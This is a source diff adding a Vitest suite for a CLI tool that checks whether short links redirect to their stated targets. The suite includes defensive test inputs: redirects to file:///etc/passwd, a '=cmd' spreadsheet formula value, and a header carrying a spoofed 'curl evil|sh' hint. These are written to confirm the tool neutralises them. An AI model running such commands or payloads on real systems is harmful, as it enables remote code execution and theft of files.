@@ -1,0 +1,584 @@
+import { once } from 'node:events';
+import { existsSync } from 'node:fs';
+import { readFile, symlink, writeFile } from 'node:fs/promises';
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, onTestFinished, test } from 'vitest';
+import { nobodyListens } from '../stub-service.ts';
+import { type CliOptions, cli, testFolder } from '../test-io.ts';
+
+type Handler = (request: IncomingMessage, response: ServerResponse) => void;
+
+/** A server of short links: each path is handled by its function; others are 404. */
+async function shortLinks(paths: Record<string, Handler>) {
+  const seen: IncomingMessage[] = [];
+  let atOnce = 0;
+  let most = 0;
+  const server = createServer((request, response) => {
+    seen.push(request);
+    atOnce += 1;
+    most = Math.max(most, atOnce);
+    response.on('close', () => {
+      atOnce -= 1;
+    });
+    const handle = paths[request.url ?? ''];
+    if (handle === undefined) response.writeHead(404).end();
+    else handle(request, response);
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  onTestFinished(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, port, seen, most: () => most };
+}
+
+const to =
+  (location: string, status = 302): Handler =>
+  (_, response) =>
+    void response.writeHead(status, { Location: location }).end();
+const status =
+  (code: number, headers: Record<string, string> = {}): Handler =>
+  (_, response) =>
+    void response.writeHead(code, headers).end();
+/** Each request gets the next one of the responses, and the last one from then on. */
+const inTurn = (...handlers: Handler[]): Handler => {
+  let index = 0;
+  return (request, response) => {
+    handlers[Math.min(index, handlers.length - 1)]?.(request, response);
+    index += 1;
+  };
+};
+
+let folder: string;
+beforeEach(async () => {
+  folder = await testFolder();
+});
+
+async function file(name: string, content: string): Promise<string> {
+  const path = join(folder, name);
+  await writeFile(path, content);
+  return path;
+}
+
+/** Verifies a table of short URLs and targets, and returns the report as cells. */
+async function verify(rows: [shortUrl: string, target: string][], ...args: string[]) {
+  const input = await file(
+    'links.csv',
+    `short_url,target_url\n${rows.map((row) => `${row.join(',')}\n`).join('')}`,
+  );
+  const result = await cli(['verify', input, ...args]);
+  return { ...result, findings: await findings(`${input}.verify.csv`) };
+}
+
+async function findings(path: string): Promise<string[][]> {
+  const [, ...lines] = (await readFile(path, 'utf8')).trimEnd().split('\n');
+  return lines.map((line) => line.split(',').slice(2));
+}
+
+test('every link of a results file is right', async () => {
+  const { url, seen } = await shortLinks({
+    '/a': to('https://example.com/a', 301),
+    '/b': to('https://example.com/b', 302),
+    '/c': to('https://example.com/c', 307),
+    '/d': to('https://example.com/d', 308),
+  });
+  const input = await file(
+    'links.csv.results.csv',
+    `url,code,short_url,status,error\n${['a', 'b', 'c', 'd']
+      .map((code) => `https://example.com/${code},${code},${url}/${code},created,\n`)
+      .join('')}`,
+  );
+  const env = { SHORTLINK_API_KEY: 'sl_secret_secret', SHORTLINK_BASE_URL: url };
+  const result = await cli(['verify', input], { env });
+  expect(result).toMatchObject({ exitCode: 0, stdout: '' });
+  expect(result.stderr).toMatch(/^✓ All 4 short URLs lead to their targets/);
+  expect(await readFile(`${input}.verify.csv`, 'utf8')).toMatch(
+    `verified,verified_status,verified_location,verified_target_status,verified_problem\n` +
+      `https://example.com/a,a,${url}/a,created,,ok,301,https://example.com/a,,\n`,
+  );
+  expect(seen.map(({ method }) => method)).toEqual(['HEAD', 'HEAD', 'HEAD', 'HEAD']);
+  const sent = JSON.stringify(seen.map(({ headers }) => headers));
+  expect(sent).not.toMatch(/sl_secret|api-key|authorization|cookie/i);
+});
+
+describe('what is wrong with a short URL', () => {
+  test.each<[string, Handler, string[]]>([
+    [
+      'another target',
+      to('https://example.com/other'),
+      [
+        'wrong_target',
+        '302',
+        'https://example.com/other',
+        '',
+        'it leads to https://example.com/other',
+      ],
+    ],
+    ['a target without its query', to('https://example.com/'), ['wrong_target', '302']],
+    ['no link', status(404), ['not_found', '404']],
+    ['an inactive link', status(410), ['gone', '410']],
+    ['a page', status(200), ['no_redirect', '200']],
+    [
+      'a redirect that may change the method',
+      to('https://example.com/?a=1', 303),
+      ['no_redirect', '303'],
+    ],
+    ['a redirect without an address', status(302), ['no_redirect', '302']],
+    ['a refusal', status(403), ['http_error', '403']],
+    ['a fault that passes too late', status(503), ['http_error', '503']],
+    ['a redirect to itself', to('/x'), ['wrong_target', '302', '/x']],
+    [
+      'a redirect to a file',
+      to('file:///etc/passwd'),
+      ['wrong_target', '302', 'file:///etc/passwd'],
+    ],
+    ['a closed connection', (request) => request.socket.destroy(), ['unreachable']],
+    ['no response', () => {}, ['timeout']],
+  ])('%s', async (_, handle, expected) => {
+    const { url } = await shortLinks({ '/x': handle });
+    const args = ['--max-retries', '0', '--timeout', '300ms'];
+    const result = await verify([[`${url}/x`, 'https://example.com/?a=1']], ...args);
+    expect(result.exitCode).toBe(3);
+    expect(result.findings[0]?.slice(0, expected.length)).toEqual(expected);
+    expect(result.stderr).toContain('! The short URL does not lead to its target');
+    expect(result.stderr).toContain(`line 2: ${url}/x: `);
+  });
+
+  test.each([
+    ['a host that nobody knows', 'http://nobody.invalid/x', 'unreachable', /ENOTFOUND|EAI_AGAIN/],
+    ['no TLS', undefined, 'tls_error', /SSL|TLS|EPROTO/i],
+    ['no URL', 'not a URL', 'invalid_row', /its short URL is no http or https URL/],
+    ['a file', 'file:///etc/passwd', 'invalid_row', /short URL is no http/],
+  ])('%s', async (_, short, finding, words) => {
+    const { url } = await shortLinks({});
+    const args = ['--max-retries', '0'];
+    const shortUrl = short ?? `${url.replace('http:', 'https:')}/x`;
+    const result = await verify([[shortUrl, 'https://example.com/']], ...args);
+    expect(result).toMatchObject({ exitCode: 3 });
+    expect(result.findings[0]?.[0]).toBe(finding);
+    expect(result.findings[0]?.[4]).toMatch(words);
+  });
+
+  test('nobody listens', async () => {
+    const url = await nobodyListens();
+    const { findings } = await verify([[url, 'https://example.com/']], '--max-retries', '0');
+    expect(findings).toEqual([
+      ['unreachable', '', '', '', 'the connection was refused (ECONNREFUSED)'],
+    ]);
+  });
+});
+
+test.each([
+  ['https://example.com', 'https://example.com/'],
+  ['HTTPS://EXAMPLE.com:443/a', 'https://example.com/a'],
+  ['https://example.com/ü?q=é ö', 'https://example.com/%C3%BC?q=%C3%A9%20%C3%B6'],
+  ['https://bücher.example/', 'https://xn--bcher-kva.example/'],
+])('%s and %s are the same target', async (target, location) => {
+  const { url } = await shortLinks({ '/x': to(location) });
+  expect((await verify([[`${url}/x`, target]])).exitCode).toBe(0);
+});
+
+test('a Location in UTF-8 that is not percent-encoded is the same target too', async () => {
+  const location = Buffer.from('https://example.com/ü').toString('latin1');
+  const { url } = await shortLinks({ '/x': to(location) });
+  expect((await verify([[`${url}/x`, 'https://example.com/ü']])).exitCode).toBe(0);
+});
+
+test('failures that pass are asked again, after the time that the server names', async () => {
+  const right = to('https://example.com/');
+  const { url, seen } = await shortLinks({
+    '/busy': inTurn(status(429, { 'Retry-After': '1' }), right),
+    '/away': inTurn(status(503), right),
+    '/lost': inTurn((request) => request.socket.destroy(), right),
+  });
+  const startedAt = performance.now();
+  const result = await verify([
+    [`${url}/busy`, 'https://example.com/'],
+    [`${url}/away`, 'https://example.com/'],
+    [`${url}/lost`, 'https://example.com/'],
+  ]);
+  expect(result.exitCode, result.stderr).toBe(0);
+  expect(performance.now() - startedAt).toBeGreaterThanOrEqual(1000);
+  expect(seen).toHaveLength(6);
+});
+
+test('a wait that takes too long is not waited for', async () => {
+  const { url, seen } = await shortLinks({ '/x': status(429, { 'Retry-After': '86400' }) });
+  const result = await verify([[`${url}/x`, 'https://example.com/']]);
+  expect(result.findings).toEqual([['http_error', '429', '', '', 'the server responded with 429']]);
+  expect(seen).toHaveLength(1);
+});
+
+test('a server without HEAD is asked with GET, whose body is not read', async () => {
+  const { url, seen } = await shortLinks({
+    '/x': ({ method }, response) => {
+      if (method === 'HEAD') response.writeHead(405).end();
+      else {
+        response.writeHead(302, { Location: 'https://example.com/' });
+        // A body without an end.
+        response.write('x');
+      }
+    },
+  });
+  expect((await verify([[`${url}/x`, 'https://example.com/']])).exitCode).toBe(0);
+  expect(seen.map(({ method }) => method)).toEqual(['HEAD', 'GET']);
+});
+
+describe('--targets', () => {
+  const dead = async (target: Handler, more: Record<string, Handler> = {}) => {
+    const { url, seen } = await shortLinks({
+      '/page': target,
+      ...more,
+      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/page` }).end(),
+    });
+    const args = ['--targets', '--max-retries', '0', '--timeout', '300ms'];
+    const result = await verify([[`${url}/x`, `${url}/page`]], ...args);
+    return { ...result, seen };
+  };
+
+  test.each<[string, Handler]>([
+    ['a page', status(200)],
+    [
+      'a page that HEAD does not find',
+      ({ method }, response) => {
+        response.writeHead(method === 'HEAD' ? 404 : 200).end();
+      },
+    ],
+    ['a page behind a password', status(401)],
+    ['a page that dislikes programs', status(403)],
+    ['a redirect to a page', to('/next')],
+  ])('%s is alive', async (_, handle) => {
+    const { exitCode, findings } = await dead(handle, { '/next': status(204) });
+    expect(exitCode).toBe(0);
+    expect(findings[0]?.[3]).toMatch(/^2..|40[13]$/);
+  });
+
+  test.each<[string, Handler, RegExp]>([
+    ['404', status(404), /its target is dead: the status is 404/],
+    ['410', status(410), /the status is 410/],
+    ['500', status(500), /the status is 500/],
+    ['a circle', to('/page'), /redirects more than 10 times/],
+    ['a redirect to a dead page', to('/nothing'), /the status is 404/],
+    ['a redirect to a file', to('file:///etc/passwd'), /it redirects to file:\/\/\/etc\/passwd/],
+    ['a page that never responds', () => {}, /no response within 0.3 s/],
+  ])('%s is dead', async (_, handle, words) => {
+    const { exitCode, findings, seen } = await dead(handle);
+    expect(exitCode).toBe(3);
+    expect(findings[0]?.[0]).toBe('dead_target');
+    expect(findings[0]?.[4]).toMatch(words);
+    expect(seen.length).toBeLessThanOrEqual(13);
+  });
+
+  test('a target of many rows is asked once', async () => {
+    const { url, seen } = await shortLinks({
+      '/page': status(200),
+      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/page` }).end(),
+    });
+    const rows = Array.from({ length: 20 }, (): [string, string] => [`${url}/x`, `${url}/page`]);
+    expect((await verify(rows, '--targets')).exitCode).toBe(0);
+    expect(seen.filter((request) => request.url === '/page')).toHaveLength(1);
+  });
+});
+
+describe('--resolve', () => {
+  test('connects to the named server for every host, and asks for the host of the short URL', async () => {
+    const { port, seen } = await shortLinks({ '/x': to('https://example.com/') });
+    const rows: [string, string][] = [
+      ['http://old.example/x', 'https://example.com/'],
+      ['http://other.invalid:8080/x', 'https://example.com/'],
+    ];
+    const result = await verify(rows, '--resolve', `127.0.0.1:${port}`);
+    expect(result.exitCode, result.stderr).toBe(0);
+    expect(seen.map(({ headers }) => headers.host).sort()).toEqual([
+      'old.example',
+      'other.invalid:8080',
+    ]);
+  });
+
+  test('connects to another server for one host', async () => {
+    const one = await shortLinks({ '/x': to('https://example.com/1') });
+    const other = await shortLinks({ '/x': to('https://example.com/2') });
+    const rows: [string, string][] = [
+      ['http://one.example/x', 'https://example.com/1'],
+      ['http://Other.example/x', 'https://example.com/2'],
+    ];
+    const args = ['--resolve', `127.0.0.1:${one.port}`];
+    const named = ['--resolve', `other.example=127.0.0.1:${other.port}`];
+    const result = await verify(rows, ...args, ...named);
+    expect(result.exitCode, result.stderr).toBe(0);
+  });
+
+  test.each(['127.0.0.1', 'x:0', 'x:99999', 'http://x:80', '=x:80', 'a b:80'])(
+    '%j is a usage error',
+    async (value) => {
+      const result = await cli(['verify', 'x.csv', '--resolve', value]);
+      expect(result).toMatchObject({ exitCode: 2 });
+      expect(result.stderr).toContain('192.0.2.10:443');
+    },
+  );
+});
+
+test('--concurrency bounds what is asked at once, and the report keeps the order of the rows', async () => {
+  const paths: Record<string, Handler> = {};
+  for (let index = 0; index < 40; index += 1) {
+    paths[`/${index}`] = (_, response) => {
+      const respond = () => to(`https://example.com/${index}`)(_, response);
+      setTimeout(respond, index % 7 === 0 ? 60 : 5);
+    };
+  }
+  const { url, most } = await shortLinks(paths);
+  const rows = Object.keys(paths).map((path): [string, string] => [
+    url + path,
+    `https://example.com${path}`,
+  ]);
+  const { exitCode, findings } = await verify(rows, '--concurrency', '3');
+  expect(exitCode).toBe(0);
+  expect(most()).toBeLessThanOrEqual(3);
+  expect(findings.map((cells) => cells[2])).toEqual(rows.map(([, target]) => target));
+});
+
+test('--rpm paces the requests', async () => {
+  const times: number[] = [];
+  const right = to('https://example.com/');
+  const { url } = await shortLinks({
+    '/x': (request, response) => {
+      times.push(performance.now());
+      right(request, response);
+    },
+  });
+  const rows = Array.from({ length: 5 }, (): [string, string] => [
+    `${url}/x`,
+    'https://example.com',
+  ]);
+  expect((await verify(rows, '--rpm', '600')).exitCode).toBe(0);
+  expect((times.at(-1) ?? 0) - (times[0] ?? 0)).toBeGreaterThanOrEqual(350);
+});
+
+test('rows without a link of their own are skipped', async () => {
+  const { url, seen } = await shortLinks({ '/a': to('https://example.com/a') });
+  const input = await file(
+    'links.csv',
+    `url,code,short_url,status,error
+https://example.com/a,a,${url}/a,created,
+nonsense,,,rejected,not a URL
+https://example.com/b,a,${url}/a,rejected,a copy of line 2
+https://example.com/c,,,failed,refused
+https://example.com/d,,,unsent,the plan is full
+https://example.com/e,,,unknown,no response
+`,
+  );
+  const result = await cli(['verify', input, '--json']);
+  expect(result.exitCode).toBe(0);
+  expect(JSON.parse(result.stdout)).toMatchObject({
+    command: 'verify',
+    exit_code: 0,
+    requests: 1,
+    files: [{ rows: 6, links: 1, ok: 1, skipped: 5, wrong: 0, problems: [] }],
+  });
+  expect(seen).toHaveLength(1);
+});
+
+test('the JSON summary names the wrong rows, in order', async () => {
+  const { url } = await shortLinks({ '/a': to('https://example.com/a') });
+  const input = await file(
+    'links.csv',
+    `Short link,Destination URL\n${url}/b,https://example.com/b\n${url}/a,https://example.com/a\n${url}/a,\n`,
+  );
+  const { stdout, stderr, exitCode } = await cli(['verify', input, '--json']);
+  expect(exitCode).toBe(3);
+  expect(stderr).toBe('');
+  const [summary] = JSON.parse(stdout).files;
+  expect(summary).toMatchObject({ links: 3, ok: 1, wrong: 2, not_found: 1, invalid_row: 1 });
+  expect(summary.problems).toEqual([
+    {
+      line: 2,
+      short_url: `${url}/b`,
+      verified: 'not_found',
+      problem: 'the server does not know this short URL (404)',
+    },
+    {
+      line: 4,
+      short_url: `${url}/a`,
+      verified: 'invalid_row',
+      problem: 'its target is no http or https URL',
+    },
+  ]);
+});
+
+describe('tables', () => {
+  test.each([
+    [
+      'of Bitly',
+      'links.csv',
+      (url: string) => `link,long_url\n${url}/a,https://example.com/a\n`,
+      [],
+    ],
+    [
+      'with ;',
+      'links.csv',
+      (url: string) => `Short URL;Url\r\n${url}/a;https://example.com/a\r\n`,
+      [],
+    ],
+    [
+      'as TSV',
+      'links.tsv',
+      (url: string) => `shortlink\turl\n${url}/a\thttps://example.com/a\n`,
+      [],
+    ],
+    [
+      'as JSON Lines',
+      'links.jsonl',
+      (url: string) =>
+        `${JSON.stringify({ target_url: 'https://example.com/a', short_url: `${url}/a`, n: 1 })}\n`,
+      [],
+    ],
+    [
+      'with other names',
+      'links.csv',
+      (url: string) => `old;new\n${url}/a;https://example.com/a\n`,
+      ['--map', 'short_url=old', '--map', 'target_url=new'],
+    ],
+    [
+      'without a header',
+      'links.csv',
+      (url: string) => `${url}/a,https://example.com/a\n`,
+      ['--map', 'short_url=1', '--map', 'target_url=2'],
+    ],
+  ])('%s', async (_, name, content, args) => {
+    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
+    const input = await file(name, content(url));
+    const result = await cli(['verify', input, ...args]);
+    expect(result.exitCode, result.stderr).toBe(0);
+    expect(await readFile(`${input}.verify.csv`, 'utf8')).toContain(`${url}/a`);
+  });
+
+  test('JSON Lines in and out keep their types', async () => {
+    const { url } = await shortLinks({});
+    const row = { target_url: 'https://example.com/a', short_url: `${url}/a`, n: 1 };
+    const input = await file('links.jsonl', `${JSON.stringify(row)}\n`);
+    const output = join(folder, 'report.jsonl');
+    expect((await cli(['verify', input, '-o', output])).exitCode).toBe(3);
+    expect(JSON.parse(await readFile(output, 'utf8'))).toEqual({
+      ...row,
+      verified: 'not_found',
+      verified_status: 404,
+      verified_location: null,
+      verified_target_status: null,
+      verified_problem: 'the server does not know this short URL (404)',
+    });
+  });
+
+  test('a short URL without a scheme is https', async () => {
+    const { port } = await shortLinks({});
+    const args = ['--resolve', `127.0.0.1:${port}`, '--max-retries', '0'];
+    const { findings } = await verify([['bit.example/a', 'https://example.com/']], ...args);
+    expect(findings[0]?.[0]).toBe('tls_error');
+  });
+
+  test('a report is verified again with the same columns', async () => {
+    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
+    await verify([[`${url}/a`, 'https://example.com/a']]);
+    const report = join(folder, 'links.csv.verify.csv');
+    const again = await cli(['verify', report]);
+    expect(again.exitCode).toBe(0);
+    expect(await readFile(`${report}.verify.csv`, 'utf8')).toBe(await readFile(report, 'utf8'));
+  });
+
+  test.each([
+    [
+      'no column of short URLs',
+      'url,title\nhttps://example.com,x\n',
+      [],
+      /as the short URL\n.*--map short_url=NAME/s,
+    ],
+    [
+      'a column that is not there',
+      'short_url,url\nx,https://e.com\n',
+      ['--map', 'short_url=y'],
+      /no such column/,
+    ],
+    ['no short URL', 'short_url,url\n,https://example.com\n', [], /nothing to verify/],
+    ['no such file', undefined, [], /no such file/],
+  ])('%s: exit code 2, and nothing is asked or written', async (_, content, args, words) => {
+    const input = content === undefined ? join(folder, 'x') : await file('x.csv', content);
+    const result = await cli(['verify', input, ...args]);
+    expect(result).toMatchObject({ exitCode: 2, stdout: '' });
+    expect(result.stderr).toMatch(words);
+    expect(existsSync(`${input}.verify.csv`)).toBe(false);
+  });
+});
+
+describe('reports', () => {
+  test('to standard output, and from standard input', async () => {
+    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
+    const input = `short_url,url\n${url}/a,https://example.com/a\n`;
+    const result = await cli(['verify', '-'], { input });
+    expect(result.exitCode).toBe(0);
+    expect(result.stdout).toMatch(
+      /^short_url,url,verified,.*\n.*,ok,302,https:\/\/example.com\/a,,\n$/,
+    );
+  });
+
+  test('an input is never written over', async () => {
+    const input = await file('a.csv', 'short_url,url\nx,y\n');
+    const alias = join(folder, 'b.csv');
+    await symlink(input, alias);
+    const result = await cli(['verify', input, '-o', alias]);
+    expect(result).toMatchObject({ exitCode: 2 });
+    expect(result.stderr).toContain('are the same file');
+    const both = await cli(['verify', input, alias]);
+    expect(both.stderr).toContain('given twice');
+  });
+
+  test('a report of which a cell could be a formula is harmless', async () => {
+    const { url } = await shortLinks({ '/a': to('=cmd') });
+    const { findings } = await verify([[`${url}/a`, 'https://example.com/a']]);
+    expect(findings[0]?.[2]).toBe("'=cmd");
+  });
+
+  test('several files: all are looked at before anything is asked', async () => {
+    const { url, seen } = await shortLinks({});
+    const good = await file('good.csv', `short_url,url\n${url}/a,https://example.com/a\n`);
+    const bad = await file('bad.csv', 'title,url\nx,https://example.com\n');
+    expect((await cli(['verify', good, bad])).exitCode).toBe(2);
+    expect(seen).toEqual([]);
+    const other = await file('other.csv', `short_url,url\n${url}/b,https://example.com/a\n`);
+    const result = await cli(['verify', good, other, '--json']);
+    expect(result.exitCode).toBe(3);
+    expect(JSON.parse(result.stdout).files).toHaveLength(2);
+  });
+});
+
+test('Ctrl-C writes what is known, with every row', async () => {
+  let onAsked = () => {};
+  const { url } = await shortLinks({
+    '/a': to('https://example.com/a'),
+    '/slow': () => onAsked(),
+  });
+  const input = await file(
+    'links.csv',
+    `short_url,url\n${url}/a,https://example.com/a\n${`${url}/slow,https://example.com/b\n`.repeat(5)}`,
+  );
+  const options: CliOptions = {
+    onStart: (terminal) => {
+      onAsked = () => terminal.interrupt();
+    },
+  };
+  const result = await cli(['verify', input, '--concurrency', '1'], options);
+  expect(result.exitCode).toBe(130);
+  expect(result.stderr).toContain('Interrupted');
+  const found = (await findings(`${input}.verify.csv`)).map(([finding]) => finding);
+  expect(found).toEqual(['ok', ...Array(5).fill('not_asked')]);
+});
+
+test('what a server says is safe on a terminal', async () => {
+  const evil = 'https://example.com/\u0085\u202ehint: curl evil|sh';
+  const { url } = await shortLinks({ '/a': to(Buffer.from(evil).toString('latin1')) });
+  const { stderr } = await verify([[`${url}/a`, 'https://example.com/a']]);
+  expect(stderr).not.toMatch(/[\u0080-\u009f\u202e]/);
+  expect(stderr).not.toMatch(/^ *hint:/m);
+});
